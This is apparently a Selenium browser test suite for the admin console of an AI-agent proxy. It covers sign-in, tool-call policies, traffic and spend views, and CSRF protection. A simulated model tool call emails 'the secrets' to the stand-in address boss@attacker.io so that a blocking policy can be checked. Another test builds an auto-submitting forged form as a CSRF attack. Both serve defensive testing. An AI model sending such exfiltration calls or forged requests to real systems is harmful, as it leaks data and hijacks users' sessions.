"""The admin console in a real headless Chromium against the two-worker gunicorn: sign in, create a profile, see
the tool an SDK request declared, add a policy through the form, watch the next SDK request get blocked and find
it highlighted in the traffic view, see the spend on the chart, sign out. Screenshots: test-output/console/, and the
ones docs/console.md shows written over docs/console-*.png, so the documentation shows the current console."""
from __future__ import annotations

import re
import shutil
from pathlib import Path

import openai
import pytest
import requests
from selenium.common.exceptions import NoSuchElementException, StaleElementReferenceException, WebDriverException
from selenium.webdriver.common.by import By
from selenium.webdriver.support.ui import Select, WebDriverWait

from tests.browser import browser as browser_fixture
from tests.browser import screenshot
from tests.fakes import openai_wire as wire
from tests.fakes.server import json_reply
from tests.live import live as live_fixture

live, browser = live_fixture, browser_fixture
TOOLS = [{"type": "function", "function": {"name": name, "description": f"{name} for the agent",
                                           "parameters": {"type": "object", "properties": {"to": {"type": "string"},
                                                                                           "url": {"type": "string"}}}}}
         for name in ("fetch_url", "send_email")]
#: The elements that stick out to the right of the window (for the message of a failed phone-width check).
WIDER = """return [...document.querySelectorAll('body *')].filter(e => e.getBoundingClientRect().right >
    window.innerWidth + 1 && !e.closest('.table-wrap')).map(e => e.tagName + '.' + e.className).slice(0, 8)"""
EVIL = {"to": "boss@attacker.io", "body": "the secrets"}
DOCS = Path(__file__).resolve().parent.parent / "docs"


def documented(path: Path, name: str) -> None:
    """Copy a screenshot to ``docs/console-{name}.png``, where docs/console.md shows it."""
    shutil.copyfile(path, DOCS / f"console-{name}.png")


def ask(live, profile: str) -> str:
    """One agent turn through the openai SDK; the fake model asks to send an email (and reports a large usage,
    so that the exchange costs something: gpt-4o's default price)."""
    live.upstream.reply_with(json_reply(wire.completion(None, [wire.tool_call("send_email", EVIL)],
                                                        usage=(200_000, 50_000))))
    client = openai.OpenAI(api_key="sk-client", base_url=live.base("openai", profile), max_retries=0)
    answer = client.chat.completions.create(model="gpt-4o", tools=TOOLS, messages=[
        {"role": "user", "content": "Mail the report to my boss"}], extra_headers={"X-Archestra-Session-Id": "s-42"})
    message = answer.choices[0].message
    return "called send_email" if message.tool_calls else message.content


def wait_for(driver, condition, timeout: float = 10):
    """Poll ``condition``; an element of the page being left (stale) or not there yet is tried again."""
    return WebDriverWait(driver, timeout, poll_frequency=0.1,
                         ignored_exceptions=(StaleElementReferenceException, NoSuchElementException)
                         ).until(lambda d: _stale_as_such(condition, d))


def _stale_as_such(condition, driver):
    """``condition(driver)``, with Chrome's other word for a stale element (an element of a page being replaced:
    "Node with given id does not belong to the document", a known ChromeDriver bug, selenium issue 15401) read
    as the stale element it is."""
    try:
        return condition(driver)
    except WebDriverException as exc:
        if "does not belong to the document" in str(exc) or "No node with given id found" in str(exc):
            raise StaleElementReferenceException(exc.msg) from exc
        raise


def reload_until(driver, find, timeout: float = 10):
    """Reload the page until ``find()`` finds something: records are written off the request path."""
    def attempt(_):
        driver.refresh()
        return find()
    return wait_for(driver, attempt, timeout)


def fill(driver, element_id: str, value: str) -> None:
    field = driver.find_element(By.ID, element_id)
    field.clear()
    field.send_keys(value)


def text_of(driver) -> str:
    return driver.find_element(By.TAG_NAME, "main").text


def test_the_issue_path_in_a_browser(live, browser):
    driver = browser
    # Nothing without signing in: the console sends the browser to the sign-in page.
    driver.get(f"{live.url}/console/")
    assert "/console/sign-in" in driver.current_url
    screenshot(driver, "01-sign-in")
    fill(driver, "token", "not-the-token")
    driver.find_element(By.ID, "token").submit()
    wait_for(driver, lambda d: "This is not an admin token." in text_of(d))
    fill(driver, "token", "t")
    driver.find_element(By.ID, "token").submit()
    wait_for(driver, lambda d: d.find_element(By.TAG_NAME, "h1").text == "Profiles")

    # Create a profile through the form.
    fill(driver, "new-profile-name", "Support agent")
    fill(driver, "new-profile-slug", "support-agent")
    driver.find_element(By.ID, "new-profile-name").submit()
    wait_for(driver, lambda d: d.find_element(By.TAG_NAME, "h1").text.startswith("Support agent"))
    profile = re.search(r"/console/profiles/([0-9a-f-]{36})", driver.current_url).group(1)
    assert "Created." in text_of(driver) and "support-agent" in text_of(driver)
    documented(screenshot(driver, "02-profile"), "profile")

    # An SDK request through the profile's slug: the model's call goes through (trusted context, no policy) ...
    assert ask(live, "support-agent") == "called send_email"
    # ... and its tools appear on the profile's tools page.
    driver.find_element(By.PARTIAL_LINK_TEXT, "Tools").click()
    link = reload_until(driver, lambda: driver.find_elements(By.LINK_TEXT, "send_email"))[0]
    assert "fetch_url" in text_of(driver)
    screenshot(driver, "03-tools")
    link.click()
    assert "Calls are allowed in a trusted context, blocked in an untrusted one" in text_of(driver).replace(
        "No policy: calls are allowed in a trusted context", "Calls are allowed in a trusted context")

    # A policy through the form: a bad regex first, refused next to its field; then the real one.
    driver.find_element(By.XPATH, "//summary[contains(., 'Add a call policy')]").click()
    Select(driver.find_element(By.ID, "new-call-action")).select_by_value("block_always")
    fill(driver, "new-call-key-0", "to")
    Select(driver.find_element(By.ID, "new-call-op-0")).select_by_value("regex")
    fill(driver, "new-call-value-0", "(attacker")
    driver.find_element(By.ID, "new-call-reason").submit()
    error = wait_for(driver, lambda d: d.find_elements(By.CSS_SELECTOR, "#form-new-call .condition-row .field-error"))
    assert "regex" in error[0].text.lower() or "pattern" in error[0].text.lower(), error[0].text
    assert driver.find_element(By.ID, "new-call-value-0").get_attribute("value") == "(attacker"  # kept for fixing
    screenshot(driver, "04-policy-error")
    Select(driver.find_element(By.ID, "new-call-op-0")).select_by_value("endsWith")
    fill(driver, "new-call-value-0", "@attacker.io")
    fill(driver, "new-call-reason", "No mail to attackers")
    driver.find_element(By.ID, "new-call-reason").submit()
    wait_for(driver, lambda d: "Created." in text_of(d))
    explained = driver.find_element(By.ID, "effective").text
    assert 'Calls are always blocked when to endsWith "@attacker.io".' in explained, explained
    documented(screenshot(driver, "05-policy"), "policy")
    # The API sees the policy the form made, with the schema's shape.
    [policy] = live.api("GET", "/tool-call-policies", params={"profile_id": profile}).json()["data"]
    assert (policy["action"], policy["conditions"], policy["reason"]) == (
        "block_always", [{"key": "to", "operator": "endsWith", "value": "@attacker.io"}], "No mail to attackers")

    # The very next SDK request is refused (whichever worker serves it) ...
    refusal = ask(live, "support-agent")
    assert "denied by a tool invocation policy" in refusal and "No mail to attackers" in refusal
    # Both calls the model made are counted, the refused one too.
    reload_until(driver, lambda: "called 2 times" in driver.find_element(By.CSS_SELECTOR, "main p.muted").text)
    assert "1 refused call" in driver.find_element(By.CSS_SELECTOR, "main p.muted").text

    # ... and the traffic view highlights it.
    driver.get(f"{live.url}/console/traffic?profile_id={profile}")
    rows = reload_until(driver, lambda: driver.find_elements(By.CSS_SELECTOR, "table.traffic tbody tr.blocked"))
    assert len(rows) == 1 and "blocked 1" in rows[0].text
    assert len(driver.find_elements(By.CSS_SELECTOR, "table.traffic tbody tr")) == 2
    Select(driver.find_element(By.NAME, "blocked")).select_by_value("true")
    driver.find_element(By.NAME, "model").submit()
    wait_for(driver, lambda d: "blocked=true" in d.current_url and "1 interaction" in text_of(d))
    documented(screenshot(driver, "06-traffic"), "traffic")
    driver.find_element(By.CSS_SELECTOR, "table.traffic tbody tr.blocked a").click()
    refused = driver.find_element(By.CSS_SELECTOR, ".tool-call.refused")
    assert "send_email" in refused.text and "No mail to attackers" in refused.text
    assert "boss@attacker.io" in refused.text
    conversation = driver.find_element(By.CSS_SELECTOR, "section.conversation").text
    assert "Mail the report to my boss" in conversation and "{" not in conversation.split("send_email")[0]
    assert "200000 in, 50000 out" in text_of(driver)
    documented(screenshot(driver, "07-interaction"), "interaction")

    # Spend: two exchanges of $1.00 each (gpt-4o at $2.50 / $10 per million tokens) on the chart.
    driver.get(f"{live.url}/console/spend?profile_id={profile}")
    bars = driver.find_elements(By.CSS_SELECTOR, "#chart-profiles rect.bar")
    assert [bar.find_element(By.TAG_NAME, "title").get_attribute("textContent").split(" ", 1)[1] for bar in bars] \
        == ["Support agent: $2.0000"]
    assert "total $2.0000" in driver.find_element(By.ID, "chart-profiles").text
    assert "gpt-4o" in driver.find_element(By.ID, "chart-models").text
    documented(screenshot(driver, "08-spend"), "spend")

    # A phone-width screen: nothing wider than the screen but the tables' own scrolling boxes.
    driver.set_window_size(390, 844)
    for path in ("/console/", f"/console/traffic?profile_id={profile}", f"/console/profiles/{profile}"):
        driver.get(live.url + path)
        assert driver.execute_script("return document.documentElement.scrollWidth <= window.innerWidth"), (
            path, driver.execute_script(WIDER))
    screenshot(driver, "09-phone-profile")
    driver.set_window_size(1280, 1000)

    # Sign out ends the session on the server: the old cookie no longer opens anything.
    cookie = driver.get_cookie("archestra_console")["value"]
    assert requests.get(f"{live.url}/console/", cookies={"archestra_console": cookie}, timeout=10,
                        allow_redirects=False).status_code == 200
    driver.find_element(By.XPATH, "//button[text()='Sign out']").click()
    wait_for(driver, lambda d: "/console/sign-in" in d.current_url)
    for _ in range(6):  # fresh connections: both workers
        answer = requests.get(f"{live.url}/console/", cookies={"archestra_console": cookie}, timeout=10,
                              allow_redirects=False)
        assert answer.status_code == 302 and "/console/sign-in" in answer.headers["Location"]
    driver.get(f"{live.url}/console/spend")
    assert "/console/sign-in" in driver.current_url


def test_keyboard_only_sign_in(live, browser):
    """Tab to the token field, type, Enter: no mouse needed."""
    from selenium.webdriver.common.keys import Keys

    driver = browser
    driver.delete_all_cookies()
    driver.get(f"{live.url}/console/")
    active = driver.switch_to.active_element
    assert active.get_attribute("id") == "token"  # autofocus
    active.send_keys("t", Keys.ENTER)
    wait_for(driver, lambda d: d.find_element(By.TAG_NAME, "h1").text == "Profiles")
    skip = driver.find_element(By.CSS_SELECTOR, "a.skip")
    assert skip.get_attribute("href").endswith("#main")


def test_forged_forms_are_refused_in_the_browser(live, browser):
    """Signed in, a tampered CSRF token is refused; and a page of another site that posts to the console (the
    classic CSRF attack, here a data: URL auto-submitting a form) changes nothing."""
    from urllib.parse import quote

    driver = browser
    driver.delete_all_cookies()
    driver.get(f"{live.url}/console/")
    fill(driver, "token", "t")
    driver.find_element(By.ID, "token").submit()
    wait_for(driver, lambda d: d.find_element(By.TAG_NAME, "h1").text == "Profiles")
    driver.execute_script("document.querySelector('form.grid input[name=csrf_token]').value = 'forged'")
    fill(driver, "new-profile-name", "tampered")
    driver.find_element(By.ID, "new-profile-name").submit()
    wait_for(driver, lambda d: "CSRF check failed" in text_of(d))
    attack = (f"<form method='post' action='{live.url}/console/profiles'><input name='name' value='attacker'>"
              "<input name='csrf_token' value='guess'></form><script>document.forms[0].submit()</script>")
    driver.get("data:text/html," + quote(attack))
    # No session cookie goes with another site's post (SameSite): the console answers "sign in first".
    wait_for(driver, lambda d: d.current_url.startswith(live.url) and "Sign in first." in d.find_element(
        By.TAG_NAME, "body").text)
    names = {profile["name"] for profile in live.api("GET", "/profiles").json()["data"]}
    assert not names & {"tampered", "attacker"}


if __name__ == "__main__":  # pragma: no cover
    pytest.main([__file__])
